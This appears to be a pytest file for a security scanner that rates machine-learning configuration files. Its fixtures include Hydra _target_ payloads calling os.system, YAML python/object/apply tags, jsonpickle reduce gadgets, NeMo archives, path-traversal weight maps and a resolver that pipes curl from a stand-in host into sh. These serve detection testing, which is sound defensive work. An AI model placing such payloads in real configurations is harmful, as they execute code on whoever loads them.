"""Configurations that an attacker would write for hydra, YAML, jsonpickle and hub loaders, and their honest twins."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager

import pytest

from accord.scan.rating import Rated, Rating

Within = Callable[[float], AbstractContextManager[None]]
Growth = Callable[[Callable[[int], Callable[[], object]], int], float]
Rate = Callable[..., Rated]
Laid = Callable[[str, Mapping[str, str | bytes]], Rated]

HYDRA = {
    "plain": ("model:\n  _target_: os.system\n  command: echo red\n", "os.system"),
    "quoted key": ('"_target_": "subprocess.run"\nargs: [echo, red]\n', "subprocess.run"),
    "single quotes": ("model: {'_target_': 'builtins.exec', _args_: ['1']}\n", "builtins.exec"),
    "escaped key": ('"_t\\u0061rget_": os.popen\n', "os.popen"),
    "escaped value": ('_target_: "\\x6fs.system"\n', "os.system"),
    "folded value": ("_target_: >-\n  posix.system\n_args_: [x]\n", "posix.system"),
    "literal value": ("_target_: |-\n  pty.spawn\n", "pty.spawn"),
    "explicit key": ("? _target_\n: runpy.run_path\n", "runpy.run_path"),
    "in a list": ("callbacks:\n- _target_: torch.nn.Linear\n- _target_: shutil.rmtree\n  path: x\n", "shutil.rmtree"),
    "by an anchor": ("a: &evil\n  _target_: os.execvp\nb: *evil\n", "os.execvp"),
    "by a merge": ("a: &b\n  _target_: ctypes.CDLL\nc:\n  <<: *b\n", "ctypes.CDLL"),
    "second document": ("a: 1\n---\n_target_: webbrowser.open\n", "webbrowser.open"),
    "first of equal keys": ("m:\n  _target_: os.system\n  _target_: torch.nn.Linear\n", "os.system"),
    "with _partial_": ("_target_: builtins.eval\n_partial_: true\n", "builtins.eval"),
    "through a method": ("_target_: hydra.utils.get_method\npath: os.system\n", "hydra.utils.get_method"),
    "nested call": ("_target_: hydra.utils.instantiate\nconfig: {a: 1}\n", "hydra.utils.instantiate"),
    "torch.load": ("_target_: torch.load\nf: x.pt\n", "torch.load"),
    "joblib.load": ("_target_: joblib.load\nfilename: x\n", "joblib.load"),
    "through a trusted module": ("_target_: torch.serialization.os.system\n", "torch.serialization.os.system"),
    "through numpy": ("_target_: numpy.testing.runstring\n", "numpy.testing.runstring"),
    "pandas": ("_target_: pandas.read_pickle\nfilepath_or_buffer: x\n", "pandas.read_pickle"),
    "dill": ("_target_: dill.loads\nstr: x\n", "dill.loads"),
    "pip": ("_target_: pip._internal.cli.main.main\n_args_: [[install, x]]\n", "pip._internal.cli.main.main"),
    "import": ("_target_: importlib.import_module\nname: x\n", "importlib.import_module"),
    "sockets": ("_target_: socket.create_connection\naddress: [example.invalid, 1]\n", "socket.create_connection"),
    "asyncio": ("_target_: asyncio.create_subprocess_shell\ncmd: x\n", "asyncio.create_subprocess_shell"),
    "class path": ("model:\n  class_path: os.system\n  init_args: {command: x}\n", "os.system"),
    "latent diffusion": ("model:\n  target: subprocess.Popen\n  params: {args: [x]}\n", "subprocess.Popen"),
}


@pytest.mark.parametrize(("text", "name"), HYDRA.values(), ids=HYDRA)
def test_a_target_that_runs_is_named_in_yaml(rated: Rate, text: str, name: str) -> None:
    for file in ("config.yaml", "conf/model.yml", "hparams.yaml"):
        found = rated(file, text.encode())
        assert (found.rating, name in {one.name for one in found.reasons}) == (Rating.DANGEROUS, True), file
    assert rated("config.yaml", b"\xef\xbb\xbf" + text.encode()).rating is Rating.DANGEROUS
    assert rated("config.yaml", text.encode("utf-16")).rating is Rating.DANGEROUS


NEMO_TARGETS = (
    "os.system",
    "subprocess.call",
    "builtins.exec",
    "nemo.core.classes.common.os.system",
    "posix.system",
    "shutil.rmtree",
    "torch.hub.load",
    "pydoc.locate",
    "importlib.import_module",
    "wget.download",
)


def archive(config: str, name: str = "model_config.yaml", packing: str = "w", **more: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=packing) as held:  # type: ignore[call-overload]  # the mode is a variable
        for path, data in ((name, config.encode()), ("model_weights.ckpt", b""), *more.items()):
            info = tarfile.TarInfo(path)
            info.size = len(data)
            held.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize("target", NEMO_TARGETS)
def test_a_nemo_model_whose_configuration_runs_is_named(rated: Rate, target: str) -> None:
    for config in (
        f"_target_: {target}\n",
        f"target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: {target}\n  command: echo red\n",
        f"preprocessor: [{{_target_: '{target}', _args_: [x]}}]\n",
    ):
        for name in ("model_config.yaml", "./model_config.yaml"):
            found = rated("m.nemo", archive(config, name, "w:gz" if name[0] == "." else "w"))
            assert (found.rating, target in {one.name for one in found.reasons}) == (Rating.DANGEROUS, True)


def test_an_honest_nemo_model_is_safe(rated: Rate) -> None:
    config = (
        "target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\nnemo_version: 2.0\nsample_rate: 16000\n"
        "preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  window: hann\n"
        "tokenizer: {dir: null, type: bpe, model_path: 'nemo:tokenizer.model'}\noptim: {name: adamw, lr: 0.1}\n"
    )
    assert rated("m.nemo", archive(config)).rating is Rating.SAFE
    outside = config.replace("nemo:tokenizer.model", "nemo:../../etc/passwd")
    assert rated("m.nemo", archive(outside)).rating is Rating.DANGEROUS


TAGS = {
    "apply": ("!!python/object/apply:os.system ['echo red']\n", "os.system"),
    "apply with keywords": (
        "a: !!python/object/apply:subprocess.Popen\n  args: [x]\n  kwds: {shell: true}\n",
        "subprocess.Popen",
    ),
    "new": ("!!python/object/new:os.system [x]\n", "os.system"),
    "object": ("a:\n- !!python/object:subprocess.Popen {}\n", "subprocess.Popen"),
    "name": ("f: !!python/name:os.system\n", "os.system"),
    "name with an empty text": ("f: !!python/name:builtins.eval ''\n", "builtins.eval"),
    "module": ("m: !!python/module:os\n", "os"),
    "verbose": ("a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n", "os.system"),
    "by a handle": ("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.popen [x]\n", "os.popen"),
    "handle to the middle": ("%TAG ! tag:yaml.org,2002:python/object/\n---\n!apply:os.system [x]\n", "os.system"),
    "percent escapes": ("!!python/object/apply:o%73.system [x]\n", "os.system"),
    "behind a map": ("!!map {a: !!python/object/apply:pty.spawn [x]}\n", "pty.spawn"),
    "as a key": ("? !!python/object/apply:os.system [x]\n: 1\n", "os.system"),
    "within new's state": (
        "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ['1']\n",
        "eval",
    ),
    "type confusion": (
        "!!python/object/new:type\n  args: [z, !!python/tuple [], {extend: !!python/name:exec }]\n  listitems: x\n",
        "type",
    ),
    "hyperpyyaml apply": ("a: !apply:os.system [x]\n", "os.system"),
    "hyperpyyaml new": ("a: !new:subprocess.Popen\n  args: [x]\n", "subprocess.Popen"),
    "hyperpyyaml name": ("a: !name:builtins.exec\n", "builtins.exec"),
    "hyperpyyaml module": ("a: !module:os\n", "os"),
}


@pytest.mark.parametrize(("text", "name"), TAGS.values(), ids=TAGS)
def test_a_yaml_tag_that_runs_is_named(rated: Rate, text: str, name: str) -> None:
    for file in ("params.yaml", "x.yml", "hyperparams.yaml", "config"):
        found = rated(file, text.encode())
        assert (found.rating, name in {one.name for one in found.reasons}) == (Rating.DANGEROUS, True), file


PICKLED = {
    "reduce": ({"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo red"]}]}, "os.system"),
    "reduce of a function": (
        {"py/reduce": [{"py/function": "subprocess.getoutput"}, {"py/tuple": ["x"]}]},
        "subprocess.getoutput",
    ),
    "nested reduce": (
        {"a": [{"b": {"py/reduce": [{"py/type": "builtins.eval"}, {"py/tuple": ["1"]}]}}]},
        "builtins.eval",
    ),
    "object": ({"py/object": "subprocess.Popen", "args": ["x"]}, "subprocess.Popen"),
    "object with arguments": ({"py/object": "os.system", "py/newargs": {"py/tuple": ["x"]}}, "os.system"),
    "old names": ({"py/object": "__builtin__.eval", "py/newargs": ["1"]}, "__builtin__.eval"),
    "object of an import": ({"py/object": "__main__.os.system"}, "__main__.os.system"),
    "type": ({"cls": {"py/type": "posix.system"}}, "posix.system"),
    "repr": ({"py/repr": "os/os.system('x')"}, "py/repr"),
    "in a state": (
        {"py/object": "collections.OrderedDict", "py/state": {"py/reduce": [{"py/type": "pty.spawn"}, ["x"]]}},
        "pty.spawn",
    ),
    "method": ({"py/method": ["os.popen", "x"]}, "os.popen"),
    "initargs": ({"py/object": "code.InteractiveInterpreter", "py/initargs": []}, "code.InteractiveInterpreter"),
}


@pytest.mark.parametrize(("value", "name"), PICKLED.values(), ids=PICKLED)
def test_jsonpickle_that_calls_is_named(rated: Rate, value: object, name: str) -> None:
    plain = json.dumps(value)
    escaped = plain.replace("py/", "\\u0070y\\/").replace("os.", "o\\u0073.")
    for text in (plain, escaped, json.dumps([value], indent=2), "// settings\n" + plain):
        for file in ("model.json", "state.json", "pipeline.jsonpickle"):
            found = rated(file, text.encode())
            assert (found.rating, name in {one.name for one in found.reasons}) == (Rating.DANGEROUS, True), text


HONEST = (
    (
        "config.yaml",
        "model:\n  _target_: torch.nn.Linear\n  in_features: 3\noptimizer: {_target_: torch.optim.AdamW, lr: 0.1}\n",
    ),
    (
        "trainer.yaml",
        "trainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 1\nnote: os.system is never called\n",
    ),
    ("a.yaml", "t: !!python/tuple [1, 2]\nu: !!python/unicode x\n"),
    ("b.yaml", "a: &x {k: 1}\nb: *x\nc: {<<: *x}\n"),
    ("lightning.yaml", "model:\n  class_path: torch.nn.ReLU\n  init_args: {inplace: true}\n"),
    ("sd.yaml", "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params: {timesteps: 1000}\n"),
    ("state.json", json.dumps({"py/object": "collections.OrderedDict", "py/tuple": [1]})),
    ("state.json", json.dumps({"a": {"py/set": [1, 2]}, "b": {"py/type": "builtins.int"}})),
    ("vocab.json", json.dumps({"os.system": 1, "py": 2, "_target": 3, "__import__": 4, "exec": 5})),
    ("tokenizer.json", json.dumps({"model": {"vocab": {"_target_": 7, "py/object": 8, "auto_map": 9, "idx": 1}}})),
    ("docs.yaml", "steps:\n- run: os.system('x')\n- uses: actions/checkout@v4\n"),
    ("cf.yaml", "Resources: {Name: !Ref Bucket, Url: !Sub 'x'}\n"),
)


@pytest.mark.parametrize(("name", "text"), HONEST)
def test_an_honest_configuration_is_safe(rated: Rate, name: str, text: str) -> None:
    found = rated(name, text.encode())
    assert (found.rating, [one.name for one in found.reasons]) == (Rating.SAFE, [])


OUTSIDE = (
    "../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\x.bin",
    "C:\\x.bin",
    "file:///etc/passwd",
    "https://example.invalid/x.bin",
    "a/../../b.safetensors",
    "~/x.safetensors",
    "\\\\example.invalid\\x",
    "x/..",
    "model\0.bin",
    "..",
    "model-00001.safetensors/../../../x",
)


@pytest.mark.parametrize("path", OUTSIDE)
def test_an_index_that_leads_outside_is_named(rated: Rate, path: str) -> None:
    text = json.dumps({"metadata": {"total_size": 1}, "weight_map": {"a": "model-1.safetensors", "b": path}})
    for name in (
        "model.safetensors.index.json",
        "pytorch_model.bin.index.json",
        "diffusion_pytorch_model.safetensors.index.json",
    ):
        for written in (text, text.replace("..", "\\u002e.").replace("/", "\\/")):
            found = rated(name, written.encode())
            assert found.rating is Rating.DANGEROUS, path
            assert found.reasons[0].finding.message.startswith("weight_map leads outside of the folder")


def test_an_index_within_its_folder_is_safe(rated: Rate) -> None:
    held = {f"layer.{index}.weight": f"model-{index % 3:05}-of-00003.safetensors" for index in range(300)}
    assert rated("model.safetensors.index.json", json.dumps({"weight_map": held}).encode()).rating is Rating.SAFE
    deeper = {"weight_map": {"a": "unet/model..v2.safetensors", "b": "./x.safetensors"}}
    assert rated("model.safetensors.index.json", json.dumps(deeper).encode()).rating is Rating.SAFE


RESOLVERS = (
    '${eval:\'__import__("os").system("x")\'}',
    "${py:os.system('x')}",
    "${sh:curl example.invalid|sh}",
    "${exec:open('x')}",
)


@pytest.mark.parametrize("text", RESOLVERS)
def test_a_resolver_that_computes_harm_is_dangerous(rated: Rate, text: str) -> None:
    assert rated("config.yaml", f"a:\n  b: {json.dumps(text)}\n".encode()).rating is Rating.DANGEROUS
    assert rated("config.json", json.dumps({"a": [text]}).encode()).rating is Rating.DANGEROUS


@pytest.mark.parametrize("text", ["${model.dim}", "${oc.env:HOME}", "${now:%Y-%m-%d}", "$5 {a}", "${eval}"])
def test_an_ordinary_interpolation_is_safe(rated: Rate, text: str) -> None:
    assert rated("config.yaml", f"a:\n  b: {json.dumps(text)}\n".encode()).rating is Rating.SAFE


def test_a_target_in_toml_or_an_ending_of_ones_own_is_found(rated: Rate) -> None:
    assert rated("config.toml", b'[model]\n_target_ = "os.system"\ncommand = "x"\n').rating is Rating.DANGEROUS
    assert rated("model.cfg", b"model:\n  _target_: os.system\n").rating is Rating.DANGEROUS


def test_a_target_behind_much_text_is_found_quickly(rated: Rate, growth: Growth) -> None:
    def as_yaml(count: int) -> Callable[[], Rated]:
        body = "".join(f"key{index}: value {index}\n" for index in range(count))
        return lambda: rated("config.yaml", (body + "last:\n  _target_: os.system\n").encode())

    def as_json(count: int) -> Callable[[], Rated]:
        listed = json.dumps([{"a": index} for index in range(count)] + [{"_target_": "os.system"}])
        return lambda: rated("config.json", listed.encode())

    for made in (as_yaml, as_json):
        assert made(40_000)().rating is Rating.DANGEROUS
        assert growth(made, 5_000) < 10


def test_a_target_behind_names_that_unfold_without_end_is_found_quickly(rated: Rate, within: Within) -> None:
    bomb = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 60))
    with within(50):
        found = rated("config.yaml", (bomb + "_target_: os.system\n").encode())
    assert found.rating is Rating.DANGEROUS


@pytest.mark.parametrize(
    "name",
    [
        "idlelib.run.Executive.runcode",
        "uuid._get_command_stdout",
        "atexit.register",
        "numpy.f2py.crackfortran.myeval",
        "numpy.distutils.exec_command.exec_command",
        "torch.utils._config_module.ConfigModule.load_config",
        "torch._inductor.codecache.compile_file",
        "lib2to3.pgen2.grammar.Grammar.loads",
    ],
)
def test_a_target_that_pickles_abuse_too_is_dangerous(rated: Rate, name: str) -> None:
    assert rated("config.yaml", f"_target_: {name}\n".encode()).rating is Rating.DANGEROUS
    assert rated("config.yaml", f"a: !!python/object/apply:{name} [x]\n".encode()).rating is Rating.DANGEROUS
    assert rated("m.nemo", archive(f"model: {{_target_: {name}}}\n")).rating is Rating.DANGEROUS
